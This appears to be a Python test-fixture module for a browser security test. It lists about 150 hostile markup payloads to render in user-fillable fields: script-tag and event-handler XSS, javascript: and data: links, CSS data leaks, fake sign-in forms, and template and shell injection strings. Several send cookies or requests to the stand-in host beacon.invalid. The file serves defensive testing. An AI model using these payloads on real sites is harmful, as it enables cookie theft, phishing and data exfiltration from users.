"""What a hostile article, question or model may hold: markup that runs, draws, asks or sends.

Each payload, if it worked, would set `window.hacked`, open a dialog, put an element into the page
or ask the host BEACON for something. A browser test shows them all in every place that a stranger
can fill.
"""

BEACON = "http://beacon.invalid"

_RUN = "window.hacked=1"

SCRIPTS = [
    f"<script>{_RUN}</script>",
    f"<SCRIPT>{_RUN}</SCRIPT>",
    f"<script src={BEACON}/a.js></script>",
    "<script src=//beacon.invalid/b.js></script>",
    f"<script type=module>import '{BEACON}/c.js'</script>",
    f"</script><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script\n>{_RUN}</script\n>",
    f"<script/x>{_RUN}</script>",
    f"\"><script>{_RUN}</script>",
    f"'><script>{_RUN}</script>",
    f"`><script>{_RUN}</script>",
    f"\\\"><script>{_RUN}</script>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"&amp;lt;script&amp;gt;{_RUN}&amp;lt;/script&amp;gt;",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"<noscript><p title=\"</noscript><img src=x onerror={_RUN}>\">",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<template><script>{_RUN}</script></template>",
    f"<xmp><script>{_RUN}</script></xmp>",
    f"<listing>&lt;img src=x onerror={_RUN}&gt;</listing>",
    "<script>alert(1)</script>",
    "<script>confirm('Give your password')</script>",
    f"<script>fetch('{BEACON}/'+document.cookie)</script>",
    f"<script>navigator.sendBeacon('{BEACON}/d')</script>",
    "<script>new WebSocket('ws://beacon.invalid/e')</script>",
    f"<script>document.write('<img src={BEACON}/f>')</script>",
]

HANDLERS = [
    f"<{tag} {handler}={_RUN}{more}>"
    for tag, handler, more in (
        ("img", "onerror", " src=x"),
        ("img", "onload", " src=data:image/gif;base64,R0lGODlhAQABAAAAACw="),
        ("svg", "onload", ""), ("body", "onload", ""), ("body", "onpageshow", ""),
        ("iframe", "onload", ""), ("input", "onfocus", " autofocus"),
        ("select", "onfocus", " autofocus"),
        ("textarea", "onfocus", " autofocus"), ("video", "onerror", " src=x"),
        ("audio", "onerror", " src=x"), ("details", "ontoggle", " open"),
        ("marquee", "onstart", ""),
        ("div", "onpointerenter", " style=position:fixed;inset:0"), ("a", "onclick", " href=#"),
        ("button", "onclick", ""), ("object", "onerror", " data=x"), ("style", "onload", ""),
        ("link", "onload", " rel=stylesheet href=data:text/css,"),
        ("p", "onanimationstart", " style=animation:x"),
        ("div", "onmouseover", ""), ("form", "onsubmit", ""), ("dialog", "oncancel", " open"),
        ("video", "oncanplay", "><source src=x"), ("xss", "onbeforecopy", " contenteditable"),
    )
] + [
    f"<img src=x onerror\n=\n{_RUN}>",
    f"<img/src=x/onerror={_RUN}>",
    f"<IMG SRC=x OnErRoR={_RUN}>",
    f"<img src=\"x\" title=\"a\"onerror=\"{_RUN}\">",
    f"\" onmouseover=\"{_RUN}\" x=\"",
    f"' onmouseover='{_RUN}' x='",
    f"\" autofocus onfocus=\"{_RUN}\" data-event=\"click\" x=\"",
    f"\" style=\"position:fixed;inset:0\" onclick=\"{_RUN}\" x=\"",
    f"x\" data-go=\"theme\" tabindex=\"1\" onfocus=\"{_RUN}",
]

LINKS = [
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f" javascript:{_RUN}",
    f"javascript://example.org/%0a{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=",
    f"vbscript:{_RUN}",
    "file:///etc/passwd",
    f"view-source:{BEACON}/",
    "blob:http://beacon.invalid/x",
    f"<a href=\"javascript:{_RUN}\">read on</a>",
    f"<a href='{BEACON}/g' ping='{BEACON}/h'>read on</a>",
    f"<a href={BEACON}/i target=_self>read on</a>",
    f"[read on](javascript:{_RUN})",
    f"[read on]({BEACON}/j)",
    f"<{BEACON}/k>",
    f"<base href={BEACON}/>",
    f"<link rel=stylesheet href={BEACON}/l.css>",
    f"<link rel=prefetch href={BEACON}/m>",
    f"<link rel=preconnect href={BEACON}>",
    "<link rel=dns-prefetch href=//beacon.invalid>",
    f"<link rel=manifest href={BEACON}/n>",
    f"<link rel=modulepreload href={BEACON}/o.js>",
    f"<meta http-equiv=refresh content='0;url={BEACON}/p'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    f"<area shape=rect coords=0,0,9,9 href=javascript:{_RUN}>",
]

IMAGES = [
    f"<img src={BEACON}/1.gif>",
    f"<img srcset='{BEACON}/2.gif 1x'>",
    f"<picture><source srcset={BEACON}/3.gif><img></picture>",
    f"![a picture]({BEACON}/4.gif)",
    f"![a picture][p]\n\n[p]: {BEACON}/5.gif",
    f"<svg><image href={BEACON}/6.gif></image></svg>",
    f"<svg><use href={BEACON}/7.svg#x></use></svg>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script href={BEACON}/8.js /></svg>",
    f"<svg><a xlink:href=javascript:{_RUN}><text y=20>read on</text></a></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{_RUN} />",
    f"<svg><foreignObject><iframe src=javascript:{_RUN}></iframe></foreignObject></svg>",
    f"<video poster={BEACON}/9.gif></video>",
    f"<video src={BEACON}/10.mp4 autoplay></video>",
    f"<audio src={BEACON}/11.mp3 autoplay></audio>",
    f"<track src={BEACON}/12.vtt>",
    f"<input type=image src={BEACON}/13.gif>",
    f"<table background={BEACON}/14.gif><tr><td>x</td></tr></table>",
    f"<body background={BEACON}/15.gif>",
    f"<embed src={BEACON}/16.swf>",
    f"<object data={BEACON}/17.swf></object>",
    f"<applet code={BEACON}/18.class></applet>",
]

FRAMES_AND_FORMS = [
    f"<iframe src={BEACON}/></iframe>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    f"<frameset><frame src={BEACON}/></frameset>",
    f"<portal src={BEACON}/></portal>",
    f"<form action={BEACON}/ method=post><input name=password><button>Sign in</button></form>",
    f"<form id=x></form><button form=x formaction=javascript:{_RUN}>Go</button>",
    "<input name=password type=password autofocus>",
    f"<isindex action=javascript:{_RUN} type=image>",
    "<button popovertarget=x>Open</button><div popover id=x>Sign in</div>",
    "<dialog open>Your session has ended. Sign in again.</dialog>",
    f"<details open><summary>More</summary><iframe src={BEACON}/></iframe></details>",
]

STYLES = [
    f"<style>@import '{BEACON}/a.css';</style>",
    f"<style>*{{background:url({BEACON}/b.gif)}}</style>",
    "<style>#talk,#source{display:none!important}</style>",
    f"<div style=\"background:url({BEACON}/c.gif)\">x</div>",
    "<div style='position:fixed;inset:0;background:red;z-index:999'>x</div>",
    f"<div style=\"width:expression({_RUN})\">x</div>",
    f"<div style=\"behavior:url({BEACON}/d.htc)\">x</div>",
    f"<style>@font-face{{font-family:x;src:url({BEACON}/e.woff)}}*{{font-family:x}}</style>",
    f"<style>input[value^=a]{{background:url({BEACON}/f)}}</style>",
    f"</p><style>@namespace url({BEACON}/g);</style>",
]

TEMPLATES = [
    "${window.hacked=1}", "${(()=>{window.hacked=1})()}", "{{window.hacked=1}}",
    "{{{window.hacked=1}}}",
    "{{constructor.constructor('window.hacked=1')()}}", "{{#each this}}{{this}}{{/each}}",
    "{% import os %}{{ os.system('id') }}", "<%= window.hacked=1 %>", "#{window.hacked=1}",
    "`;window.hacked=1;`", "';window.hacked=1;'", "\";window.hacked=1;\"", "@children", "${value}",
    "{value}", "__proto__", "constructor", "$(touch hacked)", "`touch hacked`", "%s%n%x",
    "\u202e<script>window.hacked=1</script>", "\u2028window.hacked=1\u2029",
    "<b\u0000onmouseover=window.hacked=1>x</b>", "\ufeff<img src=x onerror=window.hacked=1>",
]

PAYLOADS = [
    *SCRIPTS, *HANDLERS, *LINKS, *IMAGES, *FRAMES_AND_FORMS, *STYLES, *TEMPLATES,
]
